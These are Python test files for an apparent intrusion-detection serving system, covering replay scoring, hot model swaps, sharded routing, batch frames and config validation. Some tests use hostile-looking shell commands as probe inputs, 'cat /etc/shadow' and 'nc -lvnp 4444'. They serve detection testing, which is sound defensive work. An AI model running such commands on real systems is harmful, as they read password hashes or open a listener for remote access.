            segments = [segment.strip() for segment in text.split(SEPARATOR)]
            hits = sum(segment in self.malicious for segment in segments)
            scores.append(0.9 if hits >= 2 else 0.2)
        return np.array(scores)


@dataclass(frozen=True)
class CampaignOutcome:
    """Detection quality for one staged campaign within a replay."""

    name: str
    host: str
    steps: int
    caught: int
    precision: float
    recall: float


@dataclass
class ReplayReport:
    """Everything a scenario assertion needs from one replay."""

    scenario: Scenario
    mode: str
    results: list
    server: DetectionServer
    service: OracleService

    @property
    def escalated(self) -> set[str]:
        return set(self.server.sessions.escalated_hosts())

    def session(self, host: str):
        return self.server.sessions.session(host)

    def alerts_for(self, host: str) -> list:
        return [r.alert for r in self.results if r.alert is not None and r.host == host]

    def _labelled(self):
        """(record, result) pairs — replay order equals dataset order."""
        assert len(self.results) == len(self.scenario.dataset)
        return zip(self.scenario.dataset, self.results)

    @property
    def recall(self) -> float:
        """Fraction of truly-malicious events that raised an alert."""
        truth = caught = 0
        for record, result in self._labelled():
            if record.is_malicious:
                truth += 1
                caught += result.alert is not None
        return caught / truth if truth else 1.0

    @property
    def precision(self) -> float:
        """Fraction of raised alerts that were truly malicious."""
        alerts = true_positives = 0
        for record, result in self._labelled():
            if result.alert is not None:
                alerts += 1
                true_positives += record.is_malicious
        return true_positives / alerts if alerts else 1.0

    def campaign_outcome(self, campaign: Campaign) -> CampaignOutcome:
        """Per-campaign precision/recall, scoped to the campaign's host."""
        steps = caught = alerts = true_positives = 0
        for record, result in self._labelled():
            if result.host != campaign.host:
                continue
            if record.is_malicious:
                steps += 1
                caught += result.alert is not None
            if result.alert is not None:
                alerts += 1
                true_positives += record.is_malicious
        return CampaignOutcome(
            name=campaign.name,
            host=campaign.host,
            steps=steps,
            caught=caught,
            precision=true_positives / alerts if alerts else 1.0,
            recall=caught / steps if steps else 1.0,
        )


def replay(
    scenario: Scenario,
    mode: str = "count",
    *,
    window_seconds: float = 300.0,
    escalation_threshold: int = 5,
    sequence_threshold: float = 0.5,
    context_window: int = 3,
    context_max_gap_seconds: float = 180.0,
    max_hosts: int = 100_000,
    shards: int = 1,
    canonicalize: bool = False,
    service: OracleService | None = None,
) -> ReplayReport:
    """Replay *scenario* through a real :class:`DetectionServer`.

    Events run through the full serving path (preprocess → cache →
    micro-batch → threshold → sessions → sinks) under the given
    escalation policy.  ``concurrency=1`` keeps submission order equal
    to the stream's time order, so context composition — and therefore
    who escalates when — is fully deterministic.  *shards* routes hosts
    across that many shard runtimes — escalation verdicts must not
    depend on it (the sharded-parity tests assert exactly that).
    ``canonicalize=True`` switches on the AST canonicalization stage
    between preprocess and the cache seam.
    """
    service = service or OracleService.for_scenario(scenario)
    session = SessionConfig(
        window_seconds=window_seconds,
        escalation_threshold=escalation_threshold,
        mode=mode,
        sequence_threshold=sequence_threshold,
        context_window=context_window,
        context_max_gap_seconds=context_max_gap_seconds,
        max_hosts=max_hosts,
    )
    server = DetectionServer(
        service,
        max_latency_ms=5,
        session=session,
        shards=shards,
        canonicalize=CanonicalizeConfig(enabled=True) if canonicalize else None,
    )
    results, server = serve_stream(service, list(scenario.events), concurrency=1, server=server)
    return ReplayReport(
        scenario=scenario, mode=mode, results=results, server=server, service=service
    )
