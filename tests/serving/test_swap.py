"""Hot model swap tests: zero event loss, generation hygiene, cache purge.

The sustained-load tests swap mid-stream while producers keep
submitting; the invariants are the acceptance bar for the weekly
continual-learning hand-off: no event is dropped, no micro-batch mixes
model generations, and everything scored after the swap comes from the
new bundle.
"""

import asyncio

import numpy as np
import pytest

from repro.serving import (
    DetectionServer,
    InlineBackend,
    ProcessPoolBackend,
    ThreadedBackend,
)
from tests.serving.test_backends import FixedScoreService, load_high, load_low

OLD_SCORE, NEW_SCORE = 0.25, 0.75


class RecordingService(FixedScoreService):
    """Stub that remembers every batch it scored (for mixing checks)."""

    def __init__(self, score):
        super().__init__(score)
        self.batches = []

    def score_normalized(self, lines):
        self.batches.append(list(lines))
        return super().score_normalized(lines)


def run(coro):
    return asyncio.run(coro)


class TestSwapBasics:
    def test_swap_requires_running_server(self):
        server = DetectionServer(FixedScoreService(OLD_SCORE))
        with pytest.raises(RuntimeError, match="not running"):
            run(server.swap_model(service=FixedScoreService(NEW_SCORE)))

    def test_swap_needs_a_model_source(self):
        async def scenario():
            async with DetectionServer(FixedScoreService(OLD_SCORE)) as server:
                await server.swap_model()

        with pytest.raises(ValueError, match="bundle_dir"):
            run(scenario())

    def test_swap_report_and_metrics(self):
        async def scenario():
            async with DetectionServer(
                FixedScoreService(OLD_SCORE), max_latency_ms=5
            ) as server:
                before = await server.submit("ls -la")
                report = await server.swap_model(service=FixedScoreService(NEW_SCORE))
                after = await server.submit("ls -la")
                return before, report, after, server

        before, report, after, server = run(scenario())
        assert before.score == OLD_SCORE and before.generation == 0
        assert after.score == NEW_SCORE and after.generation == 1
        assert report.generation == 1
        assert report.swap_ms >= 0 and report.drain_ms >= 0
        assert server.metrics.swaps == 1
        assert server.metrics.last_swap_ms == report.swap_ms

    def test_swap_invalidates_cache(self):
        async def scenario():
            async with DetectionServer(
                FixedScoreService(OLD_SCORE), max_latency_ms=5
            ) as server:
                first = await server.submit("cat /etc/shadow")
                repeat = await server.submit("cat /etc/shadow")
                report = await server.swap_model(service=FixedScoreService(NEW_SCORE))
                fresh = await server.submit("cat /etc/shadow")
                return first, repeat, report, fresh, server

        first, repeat, report, fresh, server = run(scenario())
        assert repeat.cache_hit and repeat.score == OLD_SCORE
        assert report.cache_invalidated == 1
        # the old entry is gone: the post-swap repeat re-scores on the new model
        assert not fresh.cache_hit
        assert fresh.score == NEW_SCORE
        assert server.cache.generation == 1

    def test_sequential_swaps_keep_counting(self):
        async def scenario():
            async with DetectionServer(
                FixedScoreService(0.1), max_latency_ms=5
            ) as server:
                for index in range(3):
                    await server.swap_model(service=FixedScoreService(0.2 + index / 10))
                result = await server.submit("ls")
                return result, server

        result, server = run(scenario())
        assert server.generation == 3
        assert result.generation == 3
        assert server.metrics.swaps == 3


class TestSwapUnderLoad:
    N_EVENTS = 120

    def _drive(self, server, swap_kwargs):
        """Submit N unique events from concurrent producers; swap mid-stream."""

        async def scenario():
            pending = asyncio.Queue()
            for index in range(self.N_EVENTS):
                pending.put_nowait(f"event number {index}")
            results = []

            async def producer():
                while True:
                    try:
                        line = pending.get_nowait()
                    except asyncio.QueueEmpty:
                        return
                    results.append(await server.submit(line))

            async def swapper():
                # let roughly half the stream through, then rotate
                while len(results) < self.N_EVENTS // 2:
                    await asyncio.sleep(0.001)
                return await server.swap_model(**swap_kwargs)

            async with server:
                *_, report = await asyncio.gather(
                    *(producer() for _ in range(6)), swapper()
                )
            return results, report

        return run(scenario())

    def test_threaded_swap_drops_zero_events_and_never_mixes_generations(self):
        old = RecordingService(OLD_SCORE)
        new = RecordingService(NEW_SCORE)
        server = DetectionServer(
            old,
            backend=ThreadedBackend(old, workers=2, min_shard=1),
            max_batch=8,
            max_latency_ms=2,
        )
        results, report = self._drive(server, {"service": new})

        # zero events dropped or lost
        assert len(results) == self.N_EVENTS
        assert not any(result.dropped for result in results)
        # every score matches its generation's model — nothing in between
        for result in results:
            expected = OLD_SCORE if result.generation == 0 else NEW_SCORE
            assert result.score == expected
        assert {result.generation for result in results} == {0, 1}, (
            "the swap must land mid-stream for this test to bite"
        )
        # no single micro-batch was scored by both models
        old_lines = {line for batch in old.batches for line in batch}
        new_lines = {line for batch in new.batches for line in batch}
        assert old_lines.isdisjoint(new_lines)
        assert len(old_lines) + len(new_lines) == self.N_EVENTS
        assert report.generation == 1

    def test_process_swap_drops_zero_events(self, backend_workers):
        service = FixedScoreService(OLD_SCORE)
        server = DetectionServer(
            service,
            backend=ProcessPoolBackend(loader=load_low, workers=backend_workers, min_shard=1),
            max_batch=8,
            max_latency_ms=2,
        )
        results, report = self._drive(
            server, {"service": FixedScoreService(NEW_SCORE), "loader": load_high}
        )
        assert len(results) == self.N_EVENTS
        for result in results:
            expected = OLD_SCORE if result.generation == 0 else NEW_SCORE
            assert result.score == expected
        assert {result.generation for result in results} == {0, 1}
        assert report.generation == 1
        assert server.backend.generation == 1


class TestSwapWithRealBundles:
    def test_process_backend_scores_from_new_bundle_after_swap(
        self, demo_service, demo_bundle, tmp_path, backend_workers
    ):
        from repro.serving.demo import build_demo_service

        second_service = build_demo_service(seed=1)
        second_bundle = tmp_path / "bundle-v2"
        second_service.save(second_bundle)
        probe = "nc -lvnp 4444"

        async def scenario():
            server = DetectionServer(
                demo_service,
                backend=ProcessPoolBackend(demo_bundle, workers=backend_workers),
                max_latency_ms=5,
            )
            async with server:
                before = await server.submit(probe)
                report = await server.swap_model(str(second_bundle))
                after = await server.submit(probe)
                return before, report, after, server

        before, report, after, server = run(scenario())
        # singleton batches → bitwise comparison against direct scoring
        assert before.score == float(demo_service.score_normalized([before.line])[0])
        assert after.score == float(second_service.score_normalized([after.line])[0])
        assert before.generation == 0 and after.generation == 1
        assert report.bundle_dir == str(second_bundle)
        # the server-side service rotated too (threshold/preprocess path)
        assert server.service.fingerprint() == second_service.fingerprint()

    def test_continual_learner_export_feeds_swap(self, tmp_path):
        """The weekly loop's hand-off: export_service → swap_model."""
        from datetime import datetime

        from repro.ids.commercial import CommercialIDS
        from repro.lm.continual import ContinualLearner
        from repro.loggen.dataset import CommandDataset
        from repro.loggen.entities import LogRecord
        from repro.serving.demo import DEMO_BENIGN, DEMO_MALICIOUS, build_demo_service

        # a private service: the learner continues pre-training its
        # encoder in place, which must not leak into the session fixture
        demo_service = build_demo_service(seed=2)
        learner = ContinualLearner(
            demo_service.encoder, CommercialIDS(label_noise=0.0), head_epochs=2
        )
        week = CommandDataset(
            LogRecord(line, "u0001", "m000001", datetime(2024, 5, 6))
            for line in DEMO_BENIGN * 3 + DEMO_MALICIOUS * 3
        )
        learner.update(week)
        bundle = tmp_path / "weekly-bundle"
        exported = learner.export_service(bundle, threshold=0.5)
        assert (bundle / "service.json").exists()

        async def scenario():
            async with DetectionServer(demo_service, max_latency_ms=5) as server:
                report = await server.swap_model(str(bundle))
                result = await server.submit("nc -lvnp 4444")
                return report, result, server

        report, result, server = run(scenario())
        assert report.generation == 1
        assert server.service.fingerprint() == exported.fingerprint()
        assert result.score == float(exported.score_normalized([result.line])[0])
