"""Tests for the sharded serving runtime: router, per-shard pipelines,
cross-shard equivalence, fleet-wide swap, and metrics merging."""

import asyncio

import pytest

from repro.serving import (
    CommandEvent,
    DetectionServer,
    RingBufferSink,
    ServingMetrics,
    SessionConfig,
    ShardRouter,
    serve_stream,
)


def run(coro):
    return asyncio.run(coro)


def _stream(hosts=8, per_host=6, repeats=2):
    """A multi-host stream whose lines are host-disjoint, time-sorted.

    Host-disjoint lines make every counter — unique_scored and cache
    hits included — independent of how hosts are partitioned across
    shards, which is what the N-shard == 1-shard regressions need.
    """
    events = []
    clock = 0.0
    for _ in range(repeats):
        for index in range(per_host):
            for host_index in range(hosts):
                host = f"host-{host_index}"
                kind = "evil" if index % 3 == 0 else "task"
                events.append(
                    CommandEvent(f"{kind} {host}-{index}", host=host, timestamp=clock)
                )
                clock += 1.0
    return events


class TestShardRouter:
    def test_deterministic_and_stable(self):
        router = ShardRouter(4)
        again = ShardRouter(4)
        hosts = [f"h{i}" for i in range(200)]
        assert [router.route(h) for h in hosts] == [again.route(h) for h in hosts]

    def test_single_shard_routes_everything_to_zero(self):
        router = ShardRouter(1)
        assert {router.route(f"h{i}") for i in range(50)} == {0}

    def test_spread_covers_every_shard(self):
        router = ShardRouter(4)
        spread = router.spread(f"h{i}" for i in range(400))
        assert set(spread) == {0, 1, 2, 3}
        assert all(count > 0 for count in spread.values())
        # virtual nodes keep the split roughly even (no shard starves)
        assert min(spread.values()) >= 400 / 4 * 0.4

    def test_resize_moves_a_minority_of_hosts(self):
        """The consistent-hashing property: growing the ring reassigns
        roughly 1/N of hosts, not all of them."""
        before, after = ShardRouter(4), ShardRouter(5)
        hosts = [f"h{i}" for i in range(1000)]
        moved = sum(before.route(h) != after.route(h) for h in hosts)
        assert moved < 500  # naive modulo hashing would move ~80%

    def test_invalid_parameters_rejected(self):
        with pytest.raises(ValueError):
            ShardRouter(0)
        with pytest.raises(ValueError):
            ShardRouter(2, virtual_nodes=0)


class TestShardedServer:
    def test_host_state_is_shard_local(self, stub_service):
        server = DetectionServer(stub_service, shards=4, max_latency_ms=5)

        async def scenario():
            async with server:
                for t in range(6):
                    await server.submit("evil burst", host="victim", timestamp=float(t))
                await server.submit("ls", host="bystander", timestamp=0.0)

        run(scenario())
        owner = server.router.route("victim")
        assert server.shards[owner].sessions.session("victim") is not None
        for shard_id, runtime in enumerate(server.shards):
            if shard_id != owner:
                assert runtime.sessions.session("victim") is None
        # the aggregate view still answers for any host
        assert server.sessions.session("victim").alerts == 6
        assert server.sessions.session("bystander") is not None
        assert server.sessions.escalated_hosts() == ["victim"]

    def test_event_ids_unique_and_in_submission_order(self, stub_service):
        events = _stream(hosts=6, per_host=4, repeats=1)
        results, _ = serve_stream(
            stub_service, events, concurrency=1, shards=3, max_latency_ms=5
        )
        assert [r.event_id for r in results] == list(range(1, len(events) + 1))

    def test_alert_ids_unique_across_shards(self, stub_service):
        events = _stream(hosts=6, per_host=6, repeats=1)
        results, _ = serve_stream(
            stub_service, events, concurrency=4, shards=3, max_latency_ms=5
        )
        alert_ids = [r.alert.alert_id for r in results if r.alert is not None]
        assert alert_ids
        assert len(alert_ids) == len(set(alert_ids))

    @pytest.mark.parametrize("shards", [2, 4])
    def test_verdicts_match_single_shard(self, stub_service, shards):
        """Same stream, same verdicts and escalations — sharding is a
        performance decomposition, not a policy change."""
        events = _stream()
        session = dict(session_window_seconds=100, escalation_threshold=3)
        single, single_server = serve_stream(
            stub_service, events, concurrency=1, max_latency_ms=5, **session
        )
        sharded, sharded_server = serve_stream(
            stub_service, events, concurrency=1, shards=shards, max_latency_ms=5, **session
        )
        assert len(sharded) == len(single)
        for a, b in zip(single, sharded):
            assert (a.host, a.line, a.is_intrusion, a.score) == (
                b.host,
                b.line,
                b.is_intrusion,
                b.score,
            )
            assert (a.alert is None) == (b.alert is None)
            if a.alert is not None:
                assert a.alert.status == b.alert.status
        assert set(sharded_server.sessions.escalated_hosts()) == set(
            single_server.sessions.escalated_hosts()
        )

    def test_alert_delivery_has_zero_silent_drops(self, stub_service):
        ring = RingBufferSink(capacity=4096)
        events = _stream()
        results, server = serve_stream(
            stub_service, events, concurrency=4, shards=4, max_latency_ms=5, sinks=[ring]
        )
        flagged = sum(r.is_intrusion for r in results)
        assert flagged > 0
        assert ring.emitted == flagged
        stats = server.sinks.stats()
        assert all(
            s.submitted == s.delivered and s.dead_lettered == s.dropped == 0
            for s in stats.values()
        )

    def test_sequence_mode_runs_on_the_owning_shard(self, two_stage_stub):
        session = SessionConfig(mode="sequence", escalation_threshold=99)
        server = DetectionServer(two_stage_stub, shards=4, max_latency_ms=5, session=session)

        async def scenario():
            async with server:
                await server.submit("evil one", host="victim", timestamp=0.0)
                return await server.submit("evil two", host="victim", timestamp=10.0)

        second = run(scenario())
        # the owning shard composed both lines: context corroborates
        assert second.sequence_score == 0.95
        assert second.alert.context == "evil one ; evil two"
        assert server.sessions.session("victim").escalated_by == "sequence"

    def test_session_view_is_read_only(self, stub_service):
        """Forwarding a mutator to an arbitrary shard would corrupt host
        ownership — the view must refuse, not silently write to shard 0."""
        server = DetectionServer(stub_service, shards=4)
        view = server.sessions
        with pytest.raises(AttributeError, match="read-only"):
            view.observe("web-7", 0.0, True, line="evil")
        with pytest.raises(AttributeError, match="read-only"):
            view.record_sequence_score("web-7", 0.9)
        # reads and policy attributes still answer
        assert view.mode == "count"
        assert view.session("web-7") is None

    def test_session_view_composes_context_from_owning_shard(self, two_stage_stub):
        """compose_context must answer for a host on ANY shard, not just
        shard 0 (a per-host read routed like session())."""
        session = SessionConfig(mode="sequence", escalation_threshold=99)
        server = DetectionServer(two_stage_stub, shards=4, max_latency_ms=5, session=session)

        async def scenario():
            async with server:
                for host_index in range(8):
                    await server.submit("evil probe", host=f"node-{host_index}", timestamp=0.0)

        run(scenario())
        for host_index in range(8):
            host = f"node-{host_index}"
            owner = server.router.route(host)
            expected = server.shards[owner].sessions.compose_context(host)
            assert expected is not None
            assert server.sessions.compose_context(host) == expected
        assert server.sessions.compose_context("never-seen") is None

    def test_cache_and_batcher_accessors_guide_to_shards(self, stub_service):
        server = DetectionServer(stub_service, shards=2)
        with pytest.raises(AttributeError, match="server.shards"):
            server.cache
        with pytest.raises(AttributeError, match="server.shards"):
            server.batcher
        single = DetectionServer(stub_service)
        assert single.cache is single.shards[0].cache
        assert single.batcher is single.shards[0].batcher


class TestShardedSwap:
    def test_swap_rotates_every_shard_without_mixing_generations(self, stub_service):
        new_service = type(stub_service)()
        events = _stream(hosts=8, per_host=8, repeats=1)
        server = DetectionServer(stub_service, shards=4, max_batch=8, max_latency_ms=5)

        async def scenario():
            pending = asyncio.Queue()
            for event in events:
                pending.put_nowait(event)
            results = []

            async def producer():
                while True:
                    try:
                        event = pending.get_nowait()
                    except asyncio.QueueEmpty:
                        return
                    results.append(await server.submit_event(event))

            async def swapper():
                while len(results) < len(events) // 3:
                    await asyncio.sleep(0.002)
                return await server.swap_model(service=new_service)

            async with server:
                *_, report = await asyncio.gather(
                    *(producer() for _ in range(6)), swapper()
                )
            return results, report

        results, report = run(scenario())
        assert len(results) == len(events)
        assert not any(r.dropped for r in results)
        assert report.generation == 1
        assert {r.generation for r in results} <= {0, 1}
        # every shard cache rotated with the model
        for runtime in server.shards:
            assert runtime.cache.generation == 1
        assert server.service is new_service
        assert server.metrics.swaps == 1

    def test_swap_purge_counts_every_shard_cache(self, stub_service):
        server = DetectionServer(stub_service, shards=4, max_latency_ms=5)
        events = _stream(hosts=8, per_host=4, repeats=1)

        async def scenario():
            async with server:
                for event in events:
                    await server.submit_event(event)
                cached = sum(len(runtime.cache) for runtime in server.shards)
                report = await server.swap_model(service=type(stub_service)())
                return cached, report

        cached, report = run(scenario())
        assert cached > 0
        assert report.cache_invalidated == cached
        assert all(len(runtime.cache) == 0 for runtime in server.shards)


class TestMetricsMerge:
    def test_merge_sums_counters(self):
        a, b = ServingMetrics(), ServingMetrics()
        a.record_event(1.0, dropped=False, cache_hit=True)
        a.record_batch(4, "size")
        b.record_event(3.0, dropped=True, cache_hit=False)
        b.record_event(2.0, dropped=False, cache_hit=False)
        b.record_batch(2, "deadline")
        b.record_swap(12.0)
        merged = ServingMetrics.merged([a, b])
        assert merged.events_total == 3
        assert merged.dropped == 1
        assert merged.cache_hits == 1
        assert merged.cache_misses == 1
        assert merged.batches == 2
        assert merged.batched_events == 6
        assert merged.swaps == 1
        assert merged.flush_reasons == {"size": 1, "deadline": 1}
        assert merged.shards == 2
        assert merged.latency_percentile(100) == 3.0

    def test_merge_keeps_every_shard_in_the_latency_percentiles(self):
        """Merging full reservoirs must subsample fairly, not let the
        last-merged shard evict every other shard's samples."""
        a, b = ServingMetrics(), ServingMetrics()
        for _ in range(6000):  # 12k combined overflows the 10k reservoir
            a.record_event(1.0, dropped=False, cache_hit=True)
            b.record_event(100.0, dropped=False, cache_hit=True)
        merged = ServingMetrics.merged([a, b])
        # both populations are represented: the median sits between them
        assert merged.latency_percentile(25) == 1.0
        assert merged.latency_percentile(75) == 100.0

    def test_merge_takes_max_of_elapsed_not_sum(self):
        a, b = ServingMetrics(), ServingMetrics()
        a._accumulated_seconds = 2.0
        b._accumulated_seconds = 3.0
        merged = ServingMetrics.merged([a, b])
        assert merged.elapsed_seconds == pytest.approx(3.0)

    @pytest.mark.parametrize("shards", [2, 4])
    def test_sharded_totals_equal_single_shard_on_same_stream(self, stub_service, shards):
        """The regression the satellite demands: an N-shard run's merged
        metrics equal the single-shard run's on a host-disjoint stream."""
        events = _stream()
        _, single = serve_stream(
            stub_service, events, concurrency=1, max_latency_ms=5
        )
        _, sharded = serve_stream(
            stub_service, events, concurrency=1, shards=shards, max_latency_ms=5
        )
        expected = single.metrics
        merged = sharded.metrics
        for counter in (
            "events_total",
            "dropped",
            "cache_hits",
            "cache_misses",
            "alerts",
            "escalations",
            "unique_scored",
            "session_evictions",
            "scoring_errors",
        ):
            assert getattr(merged, counter) == getattr(expected, counter), counter
        # every submission is batched exactly once on both layouts
        assert merged.batched_events == expected.batched_events

    def test_sharded_metrics_property_is_a_snapshot(self, stub_service):
        server = DetectionServer(stub_service, shards=2)
        snap = server.metrics
        assert snap.shards == 2
        assert snap.events_total == 0
        # the snapshot is detached: shard counters keep living elsewhere
        assert snap is not server.metrics


class TestRingRefactorParity:
    """The HashRing extraction must not move a single host.

    Shard routing decides which shard's session table owns each host's
    state; if the refactor onto :class:`repro.serving.ring.HashRing`
    shifted any ring point, every deployed server would silently lose
    its per-host session history on upgrade.  This pins the routing to
    a reimplementation of the original inline algorithm, byte for byte.
    """

    @staticmethod
    def _original_route(host: str, shard_count: int, virtual_nodes: int) -> int:
        """The pre-refactor ShardRouter algorithm, verbatim."""
        import bisect
        from hashlib import blake2b

        def point(key: str) -> int:
            return int.from_bytes(
                blake2b(key.encode("utf-8"), digest_size=8).digest(), "big"
            )

        ring = sorted(
            (point(f"shard-{shard}/{replica}"), shard)
            for shard in range(shard_count)
            for replica in range(virtual_nodes)
        )
        points = [p for p, _ in ring]
        index = bisect.bisect_right(points, point(host)) % len(ring)
        return ring[index][1]

    @pytest.mark.parametrize(
        ("shard_count", "virtual_nodes"), [(2, 64), (3, 64), (5, 16), (8, 128)]
    )
    def test_routing_is_byte_identical_to_the_inline_original(
        self, shard_count, virtual_nodes
    ):
        router = ShardRouter(shard_count, virtual_nodes=virtual_nodes)
        hosts = [f"host-{index:04d}" for index in range(1000)]
        hosts += ["", "-", "web-01.prod.internal", "10.1.2.3", "βήτα", "host/with/slash"]
        for host in hosts:
            assert router.route(host) == self._original_route(
                host, shard_count, virtual_nodes
            ), host
