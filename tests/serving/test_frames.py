"""Tests for generation-stamped columnar batch frames (shm + pickle)."""

import pickle

import numpy as np
import pytest

from repro.serving.frames import (
    FRAME_TRANSPORTS,
    BatchFrame,
    open_frame,
    publish_frame,
    retire_frame,
    shm_available,
)
from repro.tokenizer.columnar import TokenBatch


def make_batch(rows=5, width=7, pad_id=0, seed=3):
    rng = np.random.default_rng(seed)
    ids = rng.integers(4, 200, size=(rows, width)).astype(np.int64)
    lengths = rng.integers(2, width + 1, size=rows).astype(np.int64)
    char_lengths = rng.integers(1, 80, size=rows).astype(np.int64)
    return TokenBatch(ids=ids, lengths=lengths, char_lengths=char_lengths, pad_id=pad_id)


class TestRoundTrip:
    @pytest.mark.parametrize("transport", FRAME_TRANSPORTS)
    def test_arrays_survive_exactly(self, transport):
        if transport == "shm" and not shm_available():
            pytest.skip("no shared memory on this platform")
        batch = make_batch()
        frame, segment = publish_frame(batch, generation=3, transport=transport)
        try:
            out, release = open_frame(frame)
            assert np.array_equal(out.ids, batch.ids)
            assert np.array_equal(out.lengths, batch.lengths)
            assert np.array_equal(out.char_lengths, batch.char_lengths)
            assert out.pad_id == batch.pad_id
            # consumers score row slices — views must see the same data
            rows = out.rows(slice(1, 4))
            assert np.array_equal(rows.ids, batch.ids[1:4])
            del out, rows
            release()
        finally:
            retire_frame(segment)

    def test_frame_is_picklable_and_carries_generation(self):
        batch = make_batch()
        frame, segment = publish_frame(batch, generation=17)
        try:
            clone = pickle.loads(pickle.dumps(frame))
            assert clone.generation == 17
            assert (clone.rows, clone.width) == batch.ids.shape
            assert clone.items == frame.items
        finally:
            retire_frame(segment)

    def test_empty_batch_uses_payload_even_on_shm_transport(self):
        empty = TokenBatch(
            ids=np.zeros((0, 0), dtype=np.int64),
            lengths=np.zeros(0, dtype=np.int64),
            char_lengths=np.zeros(0, dtype=np.int64),
            pad_id=0,
        )
        frame, segment = publish_frame(empty, generation=1, transport="auto")
        assert segment is None  # nothing to share: zero-row frames pickle
        out, release = open_frame(frame)
        assert len(out) == 0
        release()
        retire_frame(segment)

    def test_pickle_transport_never_creates_a_segment(self):
        frame, segment = publish_frame(make_batch(), generation=1, transport="pickle")
        assert segment is None
        assert frame.shm_name is None and frame.payload is not None


class TestLifecycle:
    def test_shm_segment_is_unlinked_by_retire(self):
        if not shm_available():
            pytest.skip("no shared memory on this platform")
        from multiprocessing import shared_memory

        batch = make_batch()
        frame, segment = publish_frame(batch, generation=1, transport="shm")
        name = frame.shm_name
        retire_frame(segment)
        with pytest.raises(FileNotFoundError):
            shared_memory.SharedMemory(name=name)

    def test_retire_is_idempotent_for_none(self):
        retire_frame(None)  # the pickle path hands back no segment

    def test_unknown_transport_rejected(self):
        with pytest.raises(ValueError, match="transport"):
            publish_frame(make_batch(), generation=0, transport="carrier-pigeon")

    def test_frame_without_segment_or_payload_rejected(self):
        bad = BatchFrame(rows=1, width=1, pad_id=0, generation=0)
        with pytest.raises(ValueError, match="neither"):
            open_frame(bad)
