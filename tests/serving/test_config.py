"""Tests for the declarative serving config: round-trips, validation
errors, bundle recording, and ``DetectionServer.from_config``."""

import asyncio
import dataclasses
import json

import pytest

from repro.errors import ConfigError
from repro.serving import DetectionServer, RingBufferSink, ServingConfig
from repro.serving.config import (
    BackendConfig,
    BatchConfig,
    CacheConfig,
    DeliveryPolicy,
    SessionConfig,
    SinkSpec,
    load_recorded_config,
)

FULL_CONFIG = {
    "batch": {"max_batch": 8, "max_latency_ms": 12.5},
    "cache": {"size": 128, "ttl_seconds": 60.0},
    "backend": {"kind": "threaded", "workers": 3},
    "session": {
        "window_seconds": 30.0,
        "escalation_threshold": 2,
        "mode": "hybrid",
        "sequence_threshold": 0.7,
        "context_window": 4,
        "context_max_gap_seconds": 120.0,
        "max_hosts": 5000,
    },
    "sinks": [
        {"uri": "ring://64", "name": "dash"},
        {
            "uri": "jsonl://alerts.jsonl",
            "policy": {
                "queue_size": 16,
                "on_full": "drop",
                "max_retries": 7,
                "backoff_ms": 5.0,
                "backoff_multiplier": 3.0,
                "max_backoff_ms": 100.0,
                "dead_letter_path": "dead.jsonl",
            },
        },
    ],
    "concurrency": 4,
}


class TestRoundTrip:
    def test_defaults_round_trip(self):
        config = ServingConfig()
        assert ServingConfig.from_dict(config.to_dict()) == config

    def test_full_config_round_trips_losslessly(self):
        config = ServingConfig.from_dict(FULL_CONFIG)
        assert ServingConfig.from_dict(config.to_dict()) == config
        # and the dict form is JSON-stable
        assert json.loads(json.dumps(config.to_dict())) == config.to_dict()

    def test_missing_sections_get_defaults(self):
        config = ServingConfig.from_dict({"batch": {"max_batch": 4}})
        assert config.batch.max_batch == 4
        assert config.batch.max_latency_ms == 25.0
        assert config.cache == CacheConfig()
        assert config.backend == BackendConfig()
        assert config.sinks == ()

    def test_bare_uri_string_sink_shorthand(self):
        config = ServingConfig.from_dict({"sinks": ["ring://32"]})
        assert config.sinks[0] == SinkSpec(uri="ring://32")

    def test_toml_file_round_trips(self, tmp_path):
        path = tmp_path / "serve.toml"
        path.write_text(
            "concurrency = 2\n"
            "[batch]\nmax_batch = 4\nmax_latency_ms = 7.5\n"
            "[cache]\nsize = 32\nttl_seconds = 5.0\n"
            "[[sinks]]\nuri = 'ring://8'\n"
            "[sinks.policy]\nmax_retries = 1\n"
        )
        config = ServingConfig.from_file(path)
        assert config.batch == BatchConfig(max_batch=4, max_latency_ms=7.5)
        assert config.cache.ttl_seconds == 5.0
        assert config.sinks[0].policy.max_retries == 1
        assert ServingConfig.from_dict(config.to_dict()) == config

    def test_json_file_round_trips(self, tmp_path):
        path = tmp_path / "serve.json"
        path.write_text(json.dumps(FULL_CONFIG))
        config = ServingConfig.from_file(path)
        assert ServingConfig.from_dict(config.to_dict()) == config

    def test_example_toml_round_trips(self):
        config = ServingConfig.from_file("examples/serve.toml")
        assert ServingConfig.from_dict(config.to_dict()) == config
        assert [spec.uri for spec in config.sinks] == [
            "ring://2048",
            "jsonl://alerts.jsonl",
        ]

    def test_to_json_parses_back_equal(self):
        config = ServingConfig.from_dict(FULL_CONFIG)
        assert ServingConfig.from_dict(json.loads(config.to_json())) == config

    def test_ttl_none_is_omitted_for_toml_compat(self):
        assert "ttl_seconds" not in CacheConfig().to_dict()


class TestValidationErrors:
    @pytest.mark.parametrize(
        ("data", "fragment"),
        [
            ({"batch": {"max_batchh": 4}}, "did you mean 'max_batch'"),
            ({"batches": {}}, "did you mean 'batch'"),
            ({"batch": {"max_batch": 0}}, "batch.max_batch must be >= 1"),
            ({"batch": {"max_batch": "four"}}, "must be an integer"),
            ({"batch": {"max_latency_ms": 0}}, "batch.max_latency_ms must be > 0"),
            ({"cache": {"size": -1}}, "cache.size must be >= 0"),
            ({"cache": {"ttl_seconds": 0}}, "cache.ttl_seconds must be > 0"),
            ({"backend": {"kind": "gpu"}}, "'auto', 'inline', 'threaded', 'process'"),
            ({"backend": {"workers": 0}}, "backend.workers must be >= 1"),
            ({"session": {"escalation_threshold": 0}}, "session.escalation_threshold"),
            ({"session": {"mode": "markov"}}, "'count', 'sequence', 'hybrid'"),
            ({"session": {"sequence_threshold": 1.5}}, "session.sequence_threshold"),
            ({"session": {"context_window": 0}}, "session.context_window must be >= 1"),
            ({"session": {"context_max_gap_seconds": 0}}, "must be > 0"),
            ({"session": {"max_hosts": 0}}, "session.max_hosts must be >= 1"),
            ({"session": {"modes": "count"}}, "did you mean 'mode'"),
            ({"concurrency": 0}, "concurrency must be >= 1"),
            ({"sinks": "ring://8"}, "sinks must be an array"),
            ({"sinks": [{"name": "x"}]}, "needs a 'uri'"),
            ({"sinks": [{"uri": "ring://8", "policy": {"on_full": "explode"}}]},
             "'block', 'drop'"),
            ({"sinks": [{"uri": "ring://8", "policy": {"queue_size": 0}}]},
             "policy.queue_size must be >= 1"),
            ({"batch": 7}, "must be a table"),
        ],
    )
